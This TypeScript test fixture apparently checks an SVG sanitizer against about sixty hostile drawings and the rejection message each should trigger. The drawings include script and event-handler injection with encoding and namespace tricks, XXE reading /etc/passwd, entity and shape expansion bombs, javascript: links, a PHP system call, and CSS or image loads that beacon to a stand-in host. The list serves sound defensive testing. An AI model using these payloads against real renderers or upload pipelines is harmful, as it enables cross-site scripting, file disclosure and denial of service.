import { gzipSync } from "node:zlib";

export const XMLNS =
	'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude"';
/** A drawing whose second line is what is given. */
export const around = (inner: string): string =>
	`<svg ${XMLNS} width="20" height="20">\n${inner}\n<path d="M0 0h9v9z"/></svg>`;
const before = (head: string, inner = ""): string => `<?xml version="1.0"?>\n${head}\n${around(inner)}`;
const utf16 = (text: string): Buffer => Buffer.from(`\uFEFF${text}`, "utf16le");

const RUN = "document.documentElement.dataset.ran='1';new Image().src='https://stranger.example/ran'";
const FRAME = `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"/>`;
const STRANGER = "https://stranger.example/";

export const SCRIPT = "the drawing has a script in it";
const OUTSIDE = "calls for something outside of the drawing";
const STYLE = "an address, an @ or a backslash";

/** Drawings that would run something or call a stranger in a browser, or make the machine that draws them do so; the line and what is said of it. */
export const HOSTILE: readonly [name: string, drawing: string | Buffer, line: number, says: string][] = [
	["a script", around(`<script>${RUN}</script>`), 2, SCRIPT],
	["a script from elsewhere", around(`<script href="${STRANGER}a.js"/>`), 2, SCRIPT],
	["a script in CDATA", around(`<script><![CDATA[${RUN}]]></script>`), 2, SCRIPT],
	["a script under a prefix", around(`<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`), 2, SCRIPT],
	["a script of HTML", around(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`), 2, SCRIPT],
	[
		"a script whose namespace is written in entities",
		around(`<s:script xmlns:s="http://www.w3.org/2000/sv&#103;">${RUN}</s:script>`),
		2,
		SCRIPT,
	],
	[
		"a script below a namespace that ends",
		around(`<g xmlns:i="http://www.inkscape.org/namespaces/inkscape"><i:note><script>${RUN}</script></i:note></g>`),
		2,
		SCRIPT,
	],
	[
		"a script under the prefix of notes",
		around(`<inkscape:x xmlns:inkscape="http://www.w3.org/1999/xhtml">${RUN}</inkscape:x>`),
		2,
		"<x>",
	],
	["a script behind a comment that is none", around(`<!-- > --><!----><script>${RUN}</script>`), 2, SCRIPT],
	["a script in the notes of the drawing", around(`<metadata><script>${RUN}</script></metadata>`), 2, SCRIPT],
	[
		"a script made by an entity",
		before(`<!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]>`, "&x;"),
		2,
		"<!DOCTYPE>",
	],
	[
		"a script made by an entity behind a quoted end",
		before(`<!DOCTYPE svg SYSTEM ">" [<!ENTITY x "<script>${RUN}</script>">]>`, "&x;"),
		2,
		"<!DOCTYPE>",
	],
	[
		"an attribute that a declaration adds",
		before(`<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>`),
		2,
		"<!DOCTYPE>",
	],
	[
		"a file of the machine",
		before('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "<desc>&x;</desc>"),
		2,
		"<!DOCTYPE>",
	],
	["declarations from elsewhere", before(`<!DOCTYPE svg SYSTEM "${STRANGER}a.dtd">`, "&x;"), 2, "<!DOCTYPE>"],
	[
		"entities that grow",
		before(`<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`, "<desc>&b;</desc>"),
		2,
		"<!DOCTYPE>",
	],
	["a style sheet from elsewhere", before(`<?xml-stylesheet href="${STRANGER}a.css"?>`), 2, "<?xml-stylesheet>"],
	["a style sheet that transforms", before('<?xml-stylesheet type="text/xsl" href="#x"?>'), 2, "<?xml-stylesheet>"],
	["an instruction in the middle", around('<g><?php system("id") ?></g>'), 2, "<?php>"],
	["an event", around(`<path onclick="${RUN}" d="M0 0h9v9z"/>`), 2, SCRIPT],
	["an event of the whole", `<svg ${XMLNS} width="9" height="9" onload="${RUN}"/>`, 1, SCRIPT],
	["an event in odd case", around(`<path ONCLICK="${RUN}" d="M0 0h9v9z"/>`), 2, SCRIPT],
	["an event on a line of its own", around(`<path d="M0 0h9v9z"\n\tonfocusin\n=\n"${RUN}"/>`), 2, SCRIPT],
	["a frame", around(`<foreignObject width="9" height="9">${FRAME}</foreignObject>`), 2, "<foreignObject>"],
	[
		"a frame under a prefix",
		around(`<s:foreignObject xmlns:s="http://www.w3.org/2000/svg">${FRAME}</s:foreignObject>`),
		2,
		"<foreignObject>",
	],
	["a frame by itself", around(FRAME), 2, "<iframe>"],
	["a page within", around(`<g xmlns="http://www.w3.org/1999/xhtml"><img src="${STRANGER}x.png"/></g>`), 2, "<g>"],
	["a part from another file", around('<xi:include href="other.svg"/>'), 2, "<include>"],
	["a link that runs", around('<a href="javascript:alert(1)"><path d="M0 0h9v9z"/></a>'), 2, "<a>"],
	[
		"a link that runs, in entities",
		around('<a xlink:href="&#106;ava&#x09;script:alert(1)"><path d="M0 0h9v9z"/></a>'),
		2,
		"<a>",
	],
	["an address that is set later", around('<set attributeName="href" to="javascript:alert(1)"/>'), 2, "<set>"],
	["an address that moves", around('<animate attributeName="href" values="javascript:alert(1)"/>'), 2, "<animate>"],
	["a photo from elsewhere", around(`<image href="${STRANGER}x.png" width="9" height="9"/>`), 2, OUTSIDE],
	[
		"a photo from elsewhere by the old name",
		around(`<image xlink:href="//stranger.example/x.png" width="9" height="9"/>`),
		2,
		OUTSIDE,
	],
	[
		"a photo from elsewhere by another name",
		around(`<image xmlns:q="http://www.w3.org/1999/xlink" q:href="${STRANGER}x.png" width="9" height="9"/>`),
		2,
		OUTSIDE,
	],
	["a photo of this machine", around('<image href="file:///etc/hostname" width="9" height="9"/>'), 2, OUTSIDE],
	["a photo that lies beside it", around('<image href="sign.jpg" width="9" height="9"/>'), 2, OUTSIDE],
	[
		"a drawing within",
		around(
			`<image href="data:image/svg+xml;base64,${Buffer.from(around(`<script>${RUN}</script>`)).toString("base64")}"/>`,
		),
		2,
		OUTSIDE,
	],
	["a page as a photo", around('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'), 2, OUTSIDE],
	["a shape of another file", around(`<use href="${STRANGER}x.svg#a"/>`), 2, OUTSIDE],
	["a shape of data", around('<use href="data:image/svg+xml,%3Csvg id=%22a%22/%3E#a"/>'), 2, OUTSIDE],
	["a paint of another file", around(`<linearGradient xlink:href="${STRANGER}x.svg#a"/>`), 2, OUTSIDE],
	["a filter that loads", around(`<filter id="f"><feImage href="${STRANGER}x.png"/></filter>`), 2, "<feImage>"],
	[
		"a filter that takes minutes",
		around('<filter id="f"><feTurbulence numOctaves="99"/></filter>'),
		2,
		"<feTurbulence>",
	],
	["groups without end", around("<g>".repeat(100_000)), 2, "more than 256 groups"],
	["another ground for addresses", around(`<g xml:base="${STRANGER}"><use href="#a"/></g>`), 2, "the attribute base"],
	[
		"a look that changes with the machine's language",
		around('<g systemLanguage="de"><path d="M0 0h9v9z"/></g>'),
		2,
		"the attribute systemLanguage",
	],
	["an imported style", around(`<style>@import "${STRANGER}a.css";</style>`), 2, STYLE],
	[
		"an imported style in CDATA and pieces",
		around(`<style>@imp<![CDATA[ort url(]]>${STRANGER}a.css);</style>`),
		2,
		STYLE,
	],
	["an imported style behind entities", around(`<style>&#64;import "${STRANGER}a.css";</style>`), 2, STYLE],
	[
		"letters from elsewhere",
		around(`<style>@font-face { font-family: a; src: url(${STRANGER}a.woff) }</style>`),
		2,
		STYLE,
	],
	["a style that loads", around(`<style>path { fill: url(${STRANGER}x.svg#a) }</style>`), 2, STYLE],
	["a style that loads in disguise", around(`<style>path { fill: u\\72l(${STRANGER}x.svg#a) }</style>`), 2, STYLE],
	["a style of a shape that loads", around(`<path style="fill:URL( '${STRANGER}x.svg#a' )" d="M0 0h9v9z"/>`), 2, STYLE],
	["a paint that loads", around(`<path fill="url(${STRANGER}x.svg#a)" d="M0 0h9v9z"/>`), 2, STYLE],
	["text", around("<text>Call</text>"), 2, "Turn the text into shapes"],
	["a size without end", `<svg ${XMLNS}\n width="1e9" height="1e9"/>`, 1, "Write at most 99999"],
	["a shape without end", `<svg ${XMLNS} viewBox="0 0 4000000000 9"/>`, 1, "Write at most 99999"],
	["a drawing in UTF-16", utf16(around(`<script>${RUN}</script>`)), 1, "cannot be read"],
	[
		"a drawing in UTF-7",
		`<?xml version="1.0" encoding = "UTF-7"?><svg ${XMLNS}>+ADw-script+AD4-</svg>`,
		1,
		"cannot be read",
	],
	["a packed drawing", gzipSync(around(`<script>${RUN}</script>`)), 1, "packed"],
	["a script behind the mark of UTF-8", `\uFEFF${around(`<script>${RUN}</script>`)}`, 2, SCRIPT],
	[
		"shapes that grow",
		around(
			`<defs><path id="x0" d="M0 0h1"/>${Array.from({ length: 8 }, (_, index) => `<g id="x${index + 1}">${`<use href="#x${index}"/>`.repeat(10)}</g>`).join("")}</defs><use href="#x8"/>`,
		),
		1,
		"cannot be read",
	],
	["a page by the name of a drawing", "<html><svg><script>alert(1)</script></svg></html>", 1, "<html>"],
	["half a drawing", around("<g>"), 1, "cannot be read"],
];
